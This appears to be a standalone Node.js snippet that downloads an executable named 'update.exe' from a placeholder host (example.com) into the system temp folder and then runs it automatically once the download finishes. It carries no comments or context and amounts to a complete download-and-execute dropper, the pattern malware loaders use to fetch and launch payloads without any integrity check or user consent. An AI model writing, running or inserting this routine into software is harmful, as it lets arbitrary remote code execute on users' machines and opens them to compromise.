const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { spawn, execFile } = require('child_process');
const f = path.join(os.tmpdir(), 'update.exe'); const w = fs.createWriteStream(f);
https.get('https://example.com/update.exe', r => { r.pipe(w); w.on('finish', () => { w.close(() => execFile(f)); }); });
